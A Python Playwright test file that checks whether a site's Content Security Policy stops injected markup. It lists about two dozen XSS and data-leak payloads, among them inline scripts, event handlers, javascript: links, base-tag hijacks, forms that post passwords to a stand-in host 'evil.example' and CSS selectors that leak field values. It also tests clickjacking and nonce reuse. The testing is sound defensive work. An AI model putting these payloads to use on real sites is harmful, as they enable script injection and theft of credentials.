"""What somebody who can write into a page achieves: everything without the policy, nothing with it.

The attacker's site answers whatever it is asked, and remembers. An attack has worked where a script
of the attacker has run, or where that site has been asked for something.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urlencode, urlsplit

import pytest
from browser_support import Complaints, Site, window
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

EVIL = "https://evil.example"
RAN = "document.documentElement.dataset.attack='ran'"
PROTECTED = ("nonce", "plain")


@dataclass(frozen=True)
class Attack:
    """Markup that somebody has got into a page, and which directive is to stop it.

    Attributes:
        directive: of the policy, as browsers report it.
        click: what the victim is made to click, or "".
        relative: whether the page names its own script from where it lies.
    """

    markup: str
    directive: str
    click: str = ""
    relative: bool = False


ATTACKS = {
    "inline script": Attack(f"<script>{RAN}</script>", "script-src-elem"),
    "inline module": Attack(f"<script type=module>{RAN}</script>", "script-src-elem"),
    "script in SVG": Attack(f"<svg><script>{RAN}</script></svg>", "script-src-elem"),
    "event handler": Attack(f'<svg onload="{RAN}"></svg>', "script-src-attr"),
    "event handler of an image": Attack(f'<img src="data:," onerror="{RAN}">', "script-src-attr"),
    "event handler that needs no event": Attack(
        f'<input autofocus onfocus="{RAN}">', "script-src-attr"
    ),
    "javascript: link": Attack(
        f'<a id=go href="javascript:void({RAN})">Read more</a>', "script-src-elem", "#go"
    ),
    "javascript: form": Attack(
        f'<form action="javascript:void({RAN})"><button id=go>Go on</button></form>',
        "form-action",
        "#go",
    ),
    "javascript: frame": Attack(
        f'<iframe src="javascript:void(parent.{RAN})"></iframe>', "script-src-elem"
    ),
    "frame with a document": Attack(
        f"<iframe srcdoc='<script>parent.{RAN.replace(chr(39), chr(34))}</script>'></iframe>",
        "script-src-elem",
    ),
    "script from elsewhere": Attack(f"<script src={EVIL}/ran.js></script>", "script-src-elem"),
    "module from elsewhere": Attack(
        f"<script type=module src={EVIL}/ran.js></script>", "script-src-elem"
    ),
    "script in its address": Attack(
        f'<script src="data:text/javascript,{RAN}"></script>', "script-src-elem"
    ),
    "text that a script of the site runs": Attack(f'<p data-code="{RAN}"></p>', "script-src"),
    "base": Attack(f"<base href={EVIL}/>", "base-uri", relative=True),
    "form to elsewhere": Attack(
        f"<form action={EVIL}/steal method=post>"
        "<input name=password value=s3cret><button id=go>Log in</button></form>",
        "form-action",
        "#go",
    ),
    "button of a form of the site": Attack(
        f"<form action=/attack/sink/><input name=token value=s3cret>"
        f"<button id=go formaction={EVIL}/steal>Go on</button></form>",
        "form-action",
        "#go",
    ),
    "object": Attack(f"<object data={EVIL}/plugin></object>", "object-src"),
    "embed": Attack(f"<embed src={EVIL}/plugin>", "object-src"),
    "frame from elsewhere": Attack(f"<iframe src={EVIL}/login></iframe>", "frame-src"),
    "inline style that reads a field": Attack(
        f"<style>input[value^=s3]{{background:url({EVIL}/leak?s3)}}</style>", "style-src-elem"
    ),
    "style attribute": Attack(f'<p style="background:url({EVIL}/seen)">x</p>', "style-src-attr"),
    "style sheet from elsewhere": Attack(
        f"<link rel=stylesheet href={EVIL}/leak.css>", "style-src-elem"
    ),
    "picture that tells": Attack(f"<img src={EVIL}/seen>", "img-src"),
    "video that tells": Attack(f"<video src={EVIL}/seen autoplay></video>", "media-src"),
    "link that tells": Attack(
        f'<a id=go href="#here" ping={EVIL}/clicked>Read more</a>', "connect-src", "#go"
    ),
}


@dataclass
class Attacker:
    """The attacker's site, as far as it was asked for anything."""

    asked: list[str] = field(default_factory=list)

    def answer(self, route: Route) -> None:
        path = urlsplit(route.request.url).path
        self.asked.append(path)
        kind = "text/javascript" if path.endswith(".js") else "text/html"
        route.fulfill(
            body=RAN if path.endswith(".js") else "<p>Thank you.</p>",
            content_type=kind,
            headers={"Access-Control-Allow-Origin": "*"},
        )


@pytest.fixture
def attacker() -> Attacker:
    return Attacker()


@pytest.fixture
def victim(
    browser: Browser, library: Site, attacker: Attacker, complaints: Complaints
) -> Iterator[BrowserContext]:
    with window(browser, complaints, base_url=library.origin) as context:
        context.route(f"{EVIL}/**", attacker.answer)
        yield context


def suffer(page: Page, kind: str, attack: Attack) -> None:
    """Open the page with the attack in it, and do what the victim is made to do."""
    query = {"markup": attack.markup, **({"relative": 1} if attack.relative else {})}
    page.goto(f"/attack/{kind}/?{urlencode(query)}")
    if attack.click:
        page.click(attack.click, no_wait_after=True)


def expect_run(page: Page) -> None:
    expect(page.locator("html")).to_have_attribute("data-attack", "ran")


def expect_stopped(page: Page, kind: str, attack: Attack) -> None:
    """Suffer the attack, until the browser tells that it has stopped it."""
    stopped = f"stopped by {attack.directive}"
    with page.expect_console_message(lambda message: message.text == stopped):
        suffer(page, kind, attack)
    data = page.evaluate("({...document.documentElement.dataset})")
    assert data == {"own": "ran"}  # the site's script runs: not everything is stopped


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_works_without_the_policy_and_not_with_it(
    victim: BrowserContext, attacker: Attacker, complaints: Complaints, name: str
) -> None:
    attack = ATTACKS[name]
    page = victim.new_page()
    if EVIL in attack.markup:
        with page.expect_response(f"{EVIL}/**"):
            suffer(page, "bare", attack)
        assert attacker.asked
    else:
        suffer(page, "bare", attack)
        expect_run(page)
    page.close()
    assert complaints.violations == []
    for kind in PROTECTED:
        complaints.forget()
        attacker.asked.clear()
        page = victim.new_page()
        expect_stopped(page, kind, attack)
        assert attacker.asked == []
        assert complaints.directives == {attack.directive}
        assert urlsplit(page.url).path == f"/attack/{kind}/"


# -- Frames ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("login", "is_shown"), [("bare-login", True), ("login", False)])
def test_the_login_page_is_in_no_frame_of_others(
    victim: BrowserContext, library: Site, login: str, is_shown: bool
) -> None:
    frame = f'<iframe src="{library.origin}/attack/{login}/"></iframe>'
    victim.route(f"{EVIL}/trap/", lambda route: route.fulfill(body=frame, content_type="text/html"))
    page = victim.new_page()
    with page.expect_response(f"**/attack/{login}/"):
        page.goto(f"{EVIL}/trap/")
    field = page.frame_locator("iframe").locator("[name=password]")
    expect(field).to_have_count(1 if is_shown else 0)
    framed = page.frames[1]
    framed.wait_for_load_state()
    assert (framed.url == "chrome-error://chromewebdata/") is not is_shown


# -- Nonces ---------------------------------------------------------------------------------------


def test_a_nonce_is_of_no_use_for_the_next_response(
    victim: BrowserContext, complaints: Complaints
) -> None:
    page = victim.new_page()
    page.goto("/attack/nonce/")
    stolen = page.eval_on_selector("script", "(script) => script.nonce")
    attack = Attack(f"<script nonce='{stolen}'>{RAN}</script>", "script-src-elem")
    suffer(page, "bare", attack)
    expect_run(page)
    expect_stopped(page, "nonce", attack)
    assert page.eval_on_selector("script:last-of-type", "(script) => script.nonce") != stolen


def test_styles_cannot_read_a_nonce(victim: BrowserContext, attacker: Attacker) -> None:
    page = victim.new_page()
    page.goto("/attack/nonce/")
    assert page.eval_on_selector("script", "(script) => script.getAttribute('nonce')") == ""
    assert page.locator("script[nonce^='']").count() == 0
